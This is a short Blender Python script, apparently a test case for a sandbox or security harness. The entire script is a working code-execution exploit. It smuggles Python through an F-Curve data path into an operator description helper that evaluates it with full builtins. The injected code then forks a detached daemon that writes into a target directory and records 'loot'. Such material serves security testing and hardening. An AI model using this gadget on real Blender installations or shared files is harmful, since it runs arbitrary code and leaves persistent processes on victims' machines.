# mode: full
# result: any
# tries: the eval gadget, then a forked daemon that writes into the target dir and waits for the next job
import bpy

carrier = bpy.data.objects.new("carrier", None)
bpy.context.scene.collection.objects.link(carrier)
action = bpy.data.actions.new("a")
carrier.animation_data_create().action = action
payload = """
import os, time
try:
    if os.fork() == 0:
        os.setsid()
        for _ in range(600):
            open('@TARGET_DIR@/gadget-daemon', 'a').write('x')
            time.sleep(0.1)
        os._exit(0)
    base['loot'] = 'forked'
except OSError as exc:
    base['loot'] = 'no fork ' + repr(exc)[:60]
"""
# Blender's own operator helper evaluates "context." + the F-Curve's data path with full builtins
# (one line: newlines travel as two tabs)
expression = "name if exec(data_path.rsplit('#', 1)[1].replace(chr(9) * 2, chr(10)), {'base': context}) else 0 #"
curve = action.fcurve_ensure_for_datablock(carrier, expression + payload.replace(chr(10), chr(9) * 2))
try:
    bpy.types.WM_OT_context_cycle_int.description(carrier, curve)
except NameError:
    pass
print("LOOT", carrier.get("loot"))
cam = bpy.data.objects.new("camera", bpy.data.cameras.new("camera"))
bpy.context.scene.collection.objects.link(cam)
bpy.context.scene.camera = cam
